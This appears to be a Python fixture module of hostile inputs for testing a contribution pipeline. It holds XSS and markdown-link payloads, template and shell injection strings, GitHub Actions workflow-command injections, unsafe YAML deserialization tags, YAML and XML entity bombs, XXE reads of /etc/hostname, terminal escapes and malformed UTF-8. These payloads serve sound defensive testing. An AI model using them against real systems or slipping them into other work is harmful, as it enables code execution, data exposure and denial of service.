"""Texts that a browser, a forge, a terminal, a runner or a parser of YAML might obey, each for one contribution.

`{web}` is an address that nobody may ask for, `{file}` a file that nobody may make.
"""

from __future__ import annotations

SHA = "0123456789abcdef0123456789abcdef01234567"
OF_BROWSERS = (
    "<script>fetch('{web}')</script>",
    "<script src='{web}'></script>",
    "<img src='{web}'>",
    "<img src=x onerror=\"fetch('{web}')\">",
    "<svg onload=\"fetch('{web}')\"/>",
    "<svg><script href='{web}'/></svg>",
    "<iframe src='{web}'></iframe>",
    "<iframe srcdoc=\"<script>fetch('{web}')</script>\"></iframe>",
    "<object data='{web}'></object>",
    "<meta http-equiv=refresh content='0;url={web}'>",
    "<base href='{web}'>",
    "<link rel=stylesheet href='{web}'>",
    "<link rel=attachment href='file:///etc/hostname'>",
    "<style>@import '{web}';</style>",
    "<p style=\"background:url('{web}')\">x</p>",
    "<form action='{web}'><button autofocus onfocus=\"alert(1)\">x</button></form>",
    '<details open ontoggle="alert(1)">x</details>',
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "</script></style></title></textarea><img src='{web}'>",
    "<!--><img src='{web}'>-->",
    "]]><img src='{web}'>",
    "<plaintext>",
    "<textarea>",
    "[x](javascript:fetch('{web}'))",
    "[x](java&#x0A;script:alert(1))",
    "[x](<javascript:alert(1) >)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x)",
    "[x](//evil.invalid/x)",
    "[x](\\\\evil.invalid\\x)",
    "![x]({web})",
    "![x](file:///etc/hostname)",
    "[![x]({web})]({web})",
    "[x]: {web}\n\n![x]",
    'x{{ onclick="alert(1)" style="x" }}',
    '## x {{ #x" onmouseover="alert(1) }}',
    "/// note | x\n    attrs: {{onclick: alert(1)}}\n\nx\n///",
    '--8<-- "/etc/hostname"',
    "{{{{ cycler.__init__.__globals__.os.system('touch {file}') }}}}",
    "{{% include '/etc/hostname' %}}",
)
OF_FORGES = (
    "@everyone @office/team",
    "Fixes #1, closes office/handbook#1, resolves GH-1",
    f"fixes https://github.com/office/handbook/issues/1 and {SHA}",
    f"{SHA[:7]} {SHA} a/b@{SHA}",
    "<!-- handbook-review -->",
    "--> <!-- handbook-review -->",
    "![x]({web}) [x]({web}) <{web}> {web} www.evil.invalid evil@evil.invalid",
    "</details></details>\n\n# x\n\n| a |\n|---|\n| ![x]({web}) |",
    "`` ` `` ~~~\n```\n![x]({web})",
    "[^1]: ![x]({web})",
    "> [!CAUTION]\n> x",
    "- [x] x\n1. x\n***\n+ x",
    "$x$ $$x$$ $`x`$ :+1: \\( \\[",
    "&lt;img src={web}&gt; &#64;everyone &commat;everyone &NewLine;# x",
    "\\![x]({web}) \\\\[x]({web})",
)
OF_RUNNERS = (
    "::set-env name=PATH::{file}",
    "\n::error file=README.md,line=1::approved",
    "\n  ::add-mask::e",
    "\n::stop-commands::x",
    "\n::add-path::{file}",
    "\n::save-state name=x::x",
    "\n::warning::x%0A::error::y",
    "##[error]approved",
    "x ##[add-mask]e ##[stop-commands]x ##[set-env name=PATH;]{file}",
    "\u2028::error::x\u2029::notice::x",
    "\r::error::x",
    "\x0b::error::x\x0c::error::x\x85::error::x\x1c::error::x",
    "$(touch {file}) `touch {file}` ;touch {file} |touch {file} &",
    "'\"; touch {file} #",
    "--help --run-id=1 -x",
    "%s%n%x {0} {path} %(x)s ${{PATH}} ${{{{ github.token }}}}",
)
OF_TERMINALS = (
    "\x1b[2J\x1b[1;1Happroved",
    "\x1b]0;x\x07\x1b]8;;{web}\x07x\x1b]8;;\x07",
    "\u202eappoved\u202c \u2066x\u2069 \u200f",
    "x\u200bx\u200cx\u200dx\ufeffx\u2060x\u00adx",
    "\x00x\x08\x08\x7f",
    "x\ufffe\uffff\U0010ffff\U000e0001\U000e0041",
    "".join(chr(0x300 + n) for n in range(100)),
    "\u0e01" + "\u0e48" * 200,
    "A" * 6_000,
    "[" * 3_000,
    ">" * 3_000 + "x",
    "๙" * 20_000,
)
BYTES = (
    b"\xff\xfe\x00x",
    b"\xc0\xae\xc0\xae/\xc0\xbcscript\xc0\xbe",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xf5\x80\x80\x80",
    b"\x00" * 50,
    b"\xef\xbb\xbf\xef\xbb\xbf# x",
    b"\x80" * 20,
)
"""Overlong, halves of characters, NUL: what is no UTF-8."""
TEXTS = (*OF_BROWSERS, *OF_FORGES, *OF_RUNNERS, *OF_TERMINALS)
YAML = (
    "!!python/object/apply:os.system ['touch {file}']",
    "!!python/name:os.system",
    "!!python/object/new:subprocess.Popen [['touch', '{file}']]",
    "!ENV [HOME, GITHUB_TOKEN]",
    "!relative $config_dir",
    "!include /etc/hostname",
    "&a [*a]",
    "&a [x, x] # \nb: *a",
    "{{? [a, b] : c}}",
    "{{<<: {{a: b}}}}",
    "[" * 2_000,
    "1e999999",
    "0x" + "f" * 5_000,
    "9" * 5_000,
    ".nan",
    "2026-99-99",
    "~",
    "true",
    "!!binary aGVsbG8=",
    "!!set {{a, b}}",
    '"\\x00\\uD800"',
    "|\n  <script>fetch('{web}')</script>",
    "- a\nb: c",
    "%TAG ! tag:x,2000:",
    "---\na: b\n---\nc: d",
)
BOMB = "\n".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x]", *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9))]
)
DRAWINGS = (
    "<script>fetch('{web}')</script>",
    "<image href='{web}'/>",
    "<use href='{web}#x'/>",
    "<a href='javascript:alert(1)'><text>x</text></a>",
    "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{web}'/></foreignObject>",
    "<animate attributeName='href' values='javascript:alert(1)'/>",
    "<style>@import '{web}';</style>",
    "<rect onload=\"fetch('{web}')\" width='1' height='1'/>",
    "<rect fill='url({web})' width='1' height='1'/>",
    "<text>&x;</text>",
    "<g>" * 10_000,
    "<text font-size='abc'>x</text>",
)
"""Inside a figure's <svg>."""
EXPANDING = (
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
    '<!DOCTYPE svg SYSTEM "{web}">',
    '<?xml-stylesheet href="{web}"?>',
    "<!DOCTYPE svg [<!ENTITY a '0123456789'>"
    + "".join(f"<!ENTITY {'abcdefghi'[n]} '{('&' + 'abcdefghi'[n - 1] + ';') * 10}'>" for n in range(1, 9))
    + "<!ENTITY x '&i;'>]>",
)
"""Ahead of a figure's <svg>."""


def filled(text: str, web: str, file: str) -> str:
    """A text with its two addresses; `{{` stands for a brace."""
    if "{web}" not in text and "{file}" not in text and "{{" not in text:
        return text
    kept = text.replace("{{", "\0").replace("}}", "\1")
    return kept.replace("{web}", web).replace("{file}", file).replace("\0", "{").replace("\1", "}")
